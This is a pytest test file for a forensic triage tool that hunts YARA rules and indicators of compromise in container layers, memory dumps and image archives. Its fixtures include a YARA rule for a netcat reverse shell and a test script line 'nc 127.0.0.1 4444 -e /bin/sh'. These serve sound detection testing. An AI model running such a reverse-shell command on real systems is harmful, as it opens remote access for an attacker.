"""triage --yara / --ioc end to end: the overlay2 fixture and the CRIU fixture."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import duckdb
import pytest

from pensieve.case.content import ContentScanner
from pensieve.case.triage import triage
from pensieve.hunting import load_hunting
from pensieve.hunting.matchers import matcher_factories
from pensieve.hunting.rules import load_rules

FIXTURES = Path(__file__).parents[1] / "fixtures"
#: the sha256 of /tmp/x that c-modified added (the fixture's changes)
TMP_X_SHA256 = "73cb3858a687a8494ca3323053016282f3dad39d42cf62ca4e79dda2aac7d9ac"
IMPLANT_RULE = """rule implant_script {
  meta:
    mitre = "T1059.004, T1105"
    description = "a netcat reverse shell"
  strings:
    $nc = "4444 -e /bin/sh"
  condition:
    $nc
}
"""


def _query(case: Path, sql: str) -> list[tuple]:
    with duckdb.connect(str(case), read_only=True) as db:
        return db.execute(sql).fetchall()


@pytest.fixture(scope="module")
def hunted(overlay2_root, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hunt")
    (tmp / "rules").mkdir()
    (tmp / "rules" / "implant.yar").write_text(IMPLANT_RULE)
    (tmp / "iocs.txt").write_text(f"{TMP_X_SHA256} # staged payload\nnew.txt\n")
    hunting = load_hunting([str(tmp / "rules")], [str(tmp / "iocs.txt")])
    case = tmp / "case.duckdb"
    summary = triage([str(overlay2_root)], str(case), hunting=hunting)
    return case, summary


def test_a_rule_and_a_sha256_ioc_become_findings(hunted):
    case, summary = hunted
    assert summary.failed == 0
    rows = _query(
        case,
        "SELECT title, severity, techniques, subject, evidence, rationale FROM findings"
        " WHERE producer = 'findings.rules' ORDER BY title",
    )
    by_subject = {r[3]: r for r in rows}
    implant = by_subject["/root/implant.sh"]
    assert implant[0] == "YARA implant_script: /root/implant.sh" and implant[1] == "high"
    assert json.loads(implant[2]) == ["T1059.004", "T1105"]
    (ref,) = json.loads(implant[4])
    assert ref["table"] == "changes" and ref["path"] == "/root/implant.sh" and ref["change"] == "added"
    assert "implant_script" in implant[5] and "netcat" in implant[5]
    staged = by_subject["/tmp/x"]
    assert staged[0].startswith("IOC sha256 ") and "staged payload" in staged[5]
    assert "/opt/app/sub/new.txt" in by_subject


def test_the_change_row_holds_the_match(hunted):
    case, _summary = hunted
    (matches,) = _query(case, "SELECT matches FROM changes WHERE path = '/root/implant.sh'")[0]
    (m,) = json.loads(matches)
    assert m["type"] == "yara" and m["rule"] == "implant_script" and m["strings"][0][0] == "$nc"


def test_image_layers_are_a_task_of_their_own(hunted):
    case, _summary = hunted
    assert _query(case, "SELECT status FROM tasks WHERE task = 'yara-layers'") == [("done",)]


def test_an_oversize_file_is_reported_not_scanned(overlay2_root, tmp_path):
    (tmp_path / "r.yar").write_text(IMPLANT_RULE)
    hunting = load_hunting([str(tmp_path / "r.yar")], max_size=16)
    case = tmp_path / "case.duckdb"
    triage([str(overlay2_root)], str(case), hunting=hunting)
    assert _query(case, "SELECT count(*) FROM findings WHERE title LIKE 'YARA %'") == [(0,)]
    problems = _query(
        case, "SELECT source, message FROM problems WHERE message LIKE 'not scanned with YARA%'"
    )
    assert any(src.endswith("/root/implant.sh") for src, _m in problems)
    (matches,) = _query(case, "SELECT matches FROM changes WHERE path = '/root/implant.sh'")[0]
    assert json.loads(matches)[0]["type"] == "unscanned"


def test_the_scanner_feeds_yara_the_whole_file(tmp_path):
    (tmp_path / "r.yar").write_text('rule across { strings: $a = "ab" condition: $a }')
    rules = load_rules([str(tmp_path / "r.yar")])
    problems: list = []
    scanner = ContentScanner(matcher_factories(rules, [], problems))
    data = b"x" * ((1 << 20) - 1) + b"ab" + b"y" * 10  # the string straddles the 1 MiB blocks
    scanner(io.BytesIO(data), "/f")
    assert [m["rule"] for m in scanner.matches["/f"]] == ["across"] and not problems


def test_md5_iocs_are_hashed_over_the_same_blocks(tmp_path):
    import hashlib

    (tmp_path / "i.txt").write_text(hashlib.md5(b"payload").hexdigest() + "\n")
    hunting = load_hunting(None, [str(tmp_path / "i.txt")])
    scanner = ContentScanner(hunting.factories([]))
    scanner(io.BytesIO(b"payload"), "/a")
    scanner(io.BytesIO(b"other"), "/b")
    assert [m["indicator"] for m in scanner.matches["/a"]] == ["md5"] and "/b" not in scanner.matches


def test_a_memory_hit_on_the_criu_fixture(tmp_path):
    with tarfile.open(FIXTURES / "criu" / "criu-dumps.tar.gz") as tf:
        tf.extractall(tmp_path / "dumps", filter="data")
    (tmp_path / "t.yar").write_text(
        'rule token { meta: severity = "critical" strings: $t = "pensieve-fixture-token-1234" condition: $t }'
    )
    (tmp_path / "bundle.json").write_text(json.dumps({"type": "bundle", "id": "bundle--1", "objects": [
        {"type": "indicator", "id": "indicator--1", "name": "local c2", "pattern_type": "stix",
         "pattern": "[ipv4-addr:value = '127.0.0.1']"}]}))  # fmt: skip
    case = tmp_path / "case.duckdb"
    hunting = load_hunting([str(tmp_path / "t.yar")], [str(tmp_path / "bundle.json")])
    summary = triage([str(tmp_path / "dumps" / "after")], str(case), hunting=hunting)
    assert summary.failed == 0
    sockets = _query(
        case,
        "SELECT title, rationale FROM findings WHERE title LIKE 'IOC ipv4 127.0.0.1%'"
        " AND json_extract_string(evidence, '$[0].table') = 'sockets'",
    )
    assert sockets and all("local c2" in why and "socket" in why for _t, why in sockets)
    rows = _query(case, "SELECT severity, subject, details FROM findings WHERE producer = 'yara.memory'")
    assert rows and all(sev == "critical" for sev, _s, _d in rows)
    details = [json.loads(d) for _s, _sub, d in rows]
    pids = {p for (p,) in _query(case, "SELECT pid FROM processes")}
    assert all(
        d["pid"] in pids and d["address"] > 0 and "pensieve-fixture-token" in d["context"] for d in details
    )


def test_the_cli_exits_2_naming_file_and_line(tmp_path, capsys):
    from pensieve.cli import main

    bad = tmp_path / "bad.yar"
    bad.write_text("rule x {\n  condition:\n    nope\n}\n")
    code = main(["triage", str(tmp_path), "--case", str(tmp_path / "c.duckdb"), "--yara", str(bad)])
    assert code == 2
    assert f"{bad}:3" in capsys.readouterr().err
    assert not (tmp_path / "c.duckdb").exists()


def test_an_ioc_address_in_a_changed_files_content(overlay2_root, tmp_path):
    """/root/implant.sh runs ``nc 127.0.0.1 4444``: the address is found in its bytes as the diff
    reads them (one read), and is one finding."""
    (tmp_path / "iocs.txt").write_text("127.0.0.1 # c2\n")
    case = tmp_path / "case.duckdb"
    triage([str(overlay2_root)], str(case), hunting=load_hunting(None, [str(tmp_path / "iocs.txt")]))
    (matches,) = _query(case, "SELECT matches FROM changes WHERE path = '/root/implant.sh'")[0]
    (m,) = json.loads(matches)
    assert (m["indicator"], m["value"], m["seen"]) == ("ipv4", "127.0.0.1", "content")
    rows = _query(
        case,
        "SELECT title, rationale FROM findings WHERE subject = '/root/implant.sh' AND title LIKE 'IOC %'",
    )
    why = f"the content of /root/implant.sh matches indicator c2 (ipv4 127.0.0.1, from {tmp_path}/iocs.txt:1)"
    assert rows == [("IOC ipv4 127.0.0.1: /root/implant.sh", why)]


OTHER_RULE = 'rule shebang { strings: $a = "#!/bin/sh" condition: $a at 0 }'


def _rules(tmp_path: Path, name: str, text: str) -> str:
    path = tmp_path / name
    path.write_text(text)
    return str(path)


def test_other_rules_rescan_what_is_done_and_the_same_rules_reuse_it(overlay2_root, tmp_path):
    case = tmp_path / "case.duckdb"
    triage([str(overlay2_root)], str(case))  # no rules: the diffs are done without matches
    assert _query(case, "SELECT count(*) FROM changes WHERE matches IS NOT NULL") == [(0,)]

    def run(rules: str) -> dict[str, set[str]]:
        events: list[dict] = []
        triage([str(overlay2_root)], str(case), events.append, load_hunting([rules]))
        out: dict[str, set[str]] = {}
        for e in events:
            out.setdefault(e["status"], set()).add(" ".join(e["task"].split(" ")[:2]))
        return out

    implant = _rules(tmp_path, "a.yar", IMPLANT_RULE)
    first = run(implant)
    assert "yara rescan" in first["done"] and "yara image" in first["done"]
    assert "diff" not in {t.split(" ")[0] for t in first["done"]}  # the diffs are not run again
    titles = {t for (t,) in _query(case, "SELECT title FROM findings WHERE producer = 'findings.rules'")}
    assert "YARA implant_script: /root/implant.sh" in titles

    again = run(implant)  # the same rules: nothing rescanned
    assert "yara rescan" in again["reused"] and "yara rescan" not in again.get("done", set())
    assert "yara image" in again["reused"]

    other = run(_rules(tmp_path, "b.yar", OTHER_RULE))  # other rules: rescanned, and they replace
    assert "yara rescan" in other["done"] and "yara image" in other["done"]
    titles = {t for (t,) in _query(case, "SELECT title FROM findings WHERE title LIKE 'YARA %'")}
    assert "YARA shebang: /root/implant.sh" in titles
    assert not any(t.startswith("YARA implant_script") for t in titles)
    params = _query(case, "SELECT DISTINCT params FROM tasks WHERE task IN ('yara-changes', 'yara-layers')")
    assert params == [(load_hunting([str(tmp_path / "b.yar")]).digest,)]


def _docker_save(path: Path, files: dict[str, bytes]) -> None:
    """A ``docker save`` archive (Docker < 25 layout) of one image of one layer holding FILES."""
    import hashlib

    layer = io.BytesIO()
    with tarfile.open(fileobj=layer, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            tf.addfile(info, io.BytesIO(data))
    raw = layer.getvalue()
    diff_id = "sha256:" + hashlib.sha256(raw).hexdigest()
    config = json.dumps(
        {
            "architecture": "amd64",
            "os": "linux",
            "config": {},
            "rootfs": {"type": "layers", "diff_ids": [diff_id]},
            "history": [{"created": "2024-01-01T00:00:00Z", "created_by": "COPY . /"}],
        }
    ).encode()
    config_name = hashlib.sha256(config).hexdigest() + ".json"
    manifest = json.dumps([{"Config": config_name, "RepoTags": ["evil/app:1"], "Layers": ["l1/layer.tar"]}])
    with tarfile.open(path, "w") as tf:
        for name, data in (
            (config_name, config),
            ("l1/layer.tar", raw),
            ("manifest.json", manifest.encode()),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))


def test_the_layers_of_an_image_archive_are_scanned(tmp_path):
    (tmp_path / "evidence").mkdir()
    archive = tmp_path / "evidence" / "save.tar"
    _docker_save(archive, {"opt/run.sh": b"#!/bin/sh\nnc 127.0.0.1 4444 -e /bin/sh\n", "etc/motd": b"hi\n"})
    case = tmp_path / "case.duckdb"
    hunting = load_hunting(
        [_rules(tmp_path, "a.yar", IMPLANT_RULE)], [_rules(tmp_path, "i.txt", "127.0.0.1\n")]
    )
    summary = triage([str(archive)], str(case), hunting=hunting)
    assert summary.failed == 0
    rows = _query(case, "SELECT title, details FROM findings WHERE producer = 'yara.layers' ORDER BY title")
    assert [t.split(":")[0] for t, _d in rows] == ["IOC ipv4 127.0.0.1", "YARA implant_script"]
    for _t, details in rows:
        d = json.loads(details)
        assert d["image"] == "evil/app:1" and d["layer_digest"].startswith("sha256:")
    assert all("/opt/run.sh in layer sha256:" in t for t, _d in rows)


def test_rule_and_ioc_files_are_read_as_regular_files_only(tmp_path):
    import os

    from pensieve.hunting.rules import RuleError

    real = tmp_path / "real.yar"
    real.write_text(IMPLANT_RULE)
    (tmp_path / "link.yar").symlink_to(real)
    with pytest.raises(RuleError, match="symlink"):
        load_hunting([str(tmp_path / "link.yar")])
    os.mkfifo(tmp_path / "fifo.txt")
    with pytest.raises(RuleError, match="not a regular file"):
        load_hunting(None, [str(tmp_path / "fifo.txt")])  # refused at once, no hang on the FIFO
    assert load_hunting([str(real)]).rules is not None


def test_network_iocs_across_blocks_as_whole_words(tmp_path):
    (tmp_path / "i.txt").write_text("evil.example.com\n10.1.2.3\nhttps://drop.example.net/x\n")
    hunting = load_hunting(None, [str(tmp_path / "i.txt")])
    scanner = ContentScanner(hunting.factories([]))
    pad = b"x" * ((1 << 20) - 8)
    scanner(io.BytesIO(pad + b" evil.example.com\n"), "/across")  # the domain straddles two blocks
    scanner(io.BytesIO(pad + b"  evil.example.comx"), "/longer")  # not the domain: a longer word
    scanner(io.BytesIO(b"GET HTTPS://drop.example.net/x 10.1.2.3;"), "/both")
    scanner(io.BytesIO(b"110.1.2.34 notevil.example.community"), "/none")
    assert [m["value"] for m in scanner.matches["/across"]] == ["evil.example.com"]
    assert "/longer" not in scanner.matches and "/none" not in scanner.matches
    assert sorted(m["indicator"] for m in scanner.matches["/both"]) == ["ipv4", "url"]
